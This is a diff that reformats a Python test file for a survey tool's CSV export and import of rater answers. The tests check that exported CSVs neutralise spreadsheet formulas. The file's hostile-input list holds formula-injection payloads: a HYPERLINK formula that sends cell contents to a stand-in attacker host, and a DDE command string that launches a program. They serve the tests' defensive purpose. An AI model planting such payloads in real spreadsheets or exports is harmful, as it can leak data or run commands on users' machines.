@@ -9,8 +9,7 @@ from backend.cli import main as cli_main
 from backend.errors import BadInputError
 from backend.survey.report import write_report
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\tTAB", "fine, -ish"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "fine, -ish"]
 
 
 def _cells(path) -> list[list[str]]:
@@ -20,14 +19,13 @@ def _cells(path) -> list[list[str]]:
 
 def _answer_with_comments(ws, survey, rater_name="@evil"):
     rater = sv.add_rater(ws, survey, rater_name)
-    ids = [i["id"] for i in sv.items(ws, survey)][:len(HOSTILE)]
+    ids = [i["id"] for i in sv.items(ws, survey)][: len(HOSTILE)]
     for item, text in zip(ids, HOSTILE):
         for q, v in (("image_quality", "good"), ("mask_quality", "poor"), ("real_fake", "real")):
             sv.record_answer(ws, rater, item, q, v)
         # record_comment strips, so store the leading tab directly as an import could
         with ws.transaction() as c:
-            c.execute("UPDATE survey_answers SET comment = ? WHERE rater_id = ? AND item_id = ?",
-                      (text, rater.id, item))
+            c.execute("UPDATE survey_answers SET comment = ? WHERE rater_id = ? AND item_id = ?", (text, rater.id, item))
     return rater
 
 
@@ -42,9 +40,13 @@ def test_answer_and_report_csvs_do_not_carry_formulas(ws, survey, tmp_path, caps
     for name in ("answers.csv", "table7.csv"):
         firsts = [r[0] for r in _cells(files[name])[1:]]
         assert firsts and all(f == "'@evil" for f in firsts), name
-    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r"))
-               for name in ("answers.csv", "table7.csv", "detection.csv", "agreement.csv")
-               for row in _cells(files[name]) for c in row if not _is_number(c))
+    assert all(
+        not c.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for name in ("answers.csv", "table7.csv", "detection.csv", "agreement.csv")
+        for row in _cells(files[name])
+        for c in row
+        if not _is_number(c)
+    )
 
 
 def _is_number(text: str) -> bool:
@@ -73,13 +75,11 @@ def test_exported_answers_import_back_unchanged(ws, survey, tmp_path):
 def test_rater_pack_round_trip(ws, survey, tmp_path, capsys):
     pack = tmp_path / "pack"
     w = str(ws.root)
-    assert cli_main(["survey", "export-rater-pack", "-w", w, "--survey", "pilot", "--rater", "dr-far",
-                     str(pack)]) == 0
+    assert cli_main(["survey", "export-rater-pack", "-w", w, "--survey", "pilot", "--rater", "dr-far", str(pack)]) == 0
     assert "Wrote a rater pack of 30 items" in capsys.readouterr().out
     its = {i["code"]: i for i in sv.items(ws, survey)}
     files = sorted(str(p.relative_to(pack)) for p in pack.rglob("*") if p.is_file())
-    assert files == sorted(["README.txt", "answers.csv"] + [f"images/{c}{s}.png" for c in its
-                                                             for s in ("", "_mask")])
+    assert files == sorted(["README.txt", "answers.csv"] + [f"images/{c}{s}.png" for c in its for s in ("", "_mask")])
     for code, it in its.items():
         assert (pack / "images" / f"{code}.png").read_bytes() == ws.path(it["image_path"]).read_bytes()
         assert (pack / "images" / f"{code}_mask.png").read_bytes() == ws.path(it["mask_path"]).read_bytes()
@@ -94,19 +94,24 @@ def test_rater_pack_round_trip(ws, survey, tmp_path, capsys):
     planned = {}
     for n, row in enumerate(sheet[:-2]):
         planned[row["item"]] = (sv.QUALITY[n % 3], sv.QUALITY[(n + 1) % 3], sv.REAL_FAKE[n % 2])
-        row.update(image_quality=planned[row["item"]][0].capitalize(), mask_quality=planned[row["item"]][1],
-                   real_fake=planned[row["item"]][2], comment="=looks odd" if n == 0 else "")
+        row.update(
+            image_quality=planned[row["item"]][0].capitalize(),
+            mask_quality=planned[row["item"]][1],
+            real_fake=planned[row["item"]][2],
+            comment="=looks odd" if n == 0 else "",
+        )
     back = tmp_path / "returned.csv"
     with open(back, "w", newline="", encoding="utf-8") as f:
         writer = csv.DictWriter(f, fieldnames=list(sv.CSV_FIELDS))
         writer.writeheader()
         writer.writerows(sheet)
     assert cli_main(["survey", "import-answers", "-w", w, "--survey", "pilot", str(back)]) == 0
-    assert "Imported 28 answers from 1 rater(s) (new raters: dr-far); 2 empty row(s) skipped" in \
-        capsys.readouterr().out
+    assert "Imported 28 answers from 1 rater(s) (new raters: dr-far); 2 empty row(s) skipped" in capsys.readouterr().out
     stored = sv.answers_of(ws, sv.get_rater(ws, survey, "dr-far"))
-    assert {its_code: (a.image_quality, a.mask_quality, a.real_fake) for its_code, a in
-            ((next(c for c, i in its.items() if i["id"] == item), a) for item, a in stored.items())} == planned
+    assert {
+        its_code: (a.image_quality, a.mask_quality, a.real_fake)
+        for its_code, a in ((next(c for c, i in its.items() if i["id"] == item), a) for item, a in stored.items())
+    } == planned
     assert "=looks odd" in {a.comment for a in stored.values()}
 
 
@@ -145,16 +150,18 @@ def test_an_empty_rater_cell_needs_a_name(ws, survey, tmp_path, capsys):
         writer.writerows(sheet)
     with pytest.raises(BadInputError, match="line 2: empty rater .*pass --rater NAME"):
         sv.import_answers_csv(ws, survey, back)
-    assert cli_main(["survey", "import-answers", "-w", str(ws.root), "--survey", "pilot", "--rater", "dr-b",
-                     str(back)]) == 0
-    assert sv.answers_of(ws, sv.get_rater(ws, survey, "dr-b"))[
-        next(i["id"] for i in sv.items(ws, survey) if i["code"] == sheet[0]["item"])].real_fake == "fake"
+    assert cli_main(["survey", "import-answers", "-w", str(ws.root), "--survey", "pilot", "--rater", "dr-b", str(back)]) == 0
+    assert (
+        sv.answers_of(ws, sv.get_rater(ws, survey, "dr-b"))[
+            next(i["id"] for i in sv.items(ws, survey) if i["code"] == sheet[0]["item"])
+        ].real_fake
+        == "fake"
+    )
 
 
 def test_latin1_answers_sheet_is_read_with_a_note(ws, survey, tmp_path, capsys):
     codes = [i["code"] for i in sv.items(ws, survey)][:2]
-    text = ("rater;item;image_quality;mask_quality;real_fake;comment\n"
-            f"Dr. Müller;{codes[0]};gut;good;real;Läsion unscharf\n")
+    text = f"rater;item;image_quality;mask_quality;real_fake;comment\nDr. Müller;{codes[0]};gut;good;real;Läsion unscharf\n"
     bad = tmp_path / "latin1.csv"
     bad.write_bytes(text.encode("latin-1"))
     with pytest.raises(BadInputError, match="line 2: 'gut' is not a valid answer to image_quality"):
@@ -177,17 +184,22 @@ def test_survey_report_files_are_unchanged_and_rater_names_escaped(ws, survey, t
     codes; no bootstrap (its intervals would)."""
     from _report_helpers import HYPERLINK, assert_no_formula, csv_cells, same_as_golden
 
-    answers = {"real": (sv.QUALITY, sv.REAL_FAKE), "inpainted": (sv.QUALITY[::-1], sv.REAL_FAKE[::-1]),
-               "styled": (sv.QUALITY[1:], sv.REAL_FAKE)}
+    answers = {
+        "real": (sv.QUALITY, sv.REAL_FAKE),
+        "inpainted": (sv.QUALITY[::-1], sv.REAL_FAKE[::-1]),
+        "styled": (sv.QUALITY[1:], sv.REAL_FAKE),
+    }
     for shift, name in enumerate(["dr-a", HYPERLINK, "dr-c"]):
         rater = sv.add_rater(ws, survey, name)
         rank: dict[str, int] = {}
         for item in sv.items(ws, survey):
             quality, real_fake = answers[item["truth"]]
             k = rank[item["truth"]] = rank.get(item["truth"], -1) + 1
-            for q, v in (("image_quality", quality[(k + shift) % len(quality)]),
-                         ("mask_quality", quality[k % len(quality)]),
-                         ("real_fake", real_fake[(k * (shift + 1)) % 2])):
+            for q, v in (
+                ("image_quality", quality[(k + shift) % len(quality)]),
+                ("mask_quality", quality[k % len(quality)]),
+                ("real_fake", real_fake[(k * (shift + 1)) % 2]),
+            ):
                 sv.record_answer(ws, rater, item["id"], q, v)
     files = write_report(ws, survey, tmp_path / "rep", n_boot=0)
     for name in ("report.md", "table7.csv", "detection.csv", "agreement.csv"):
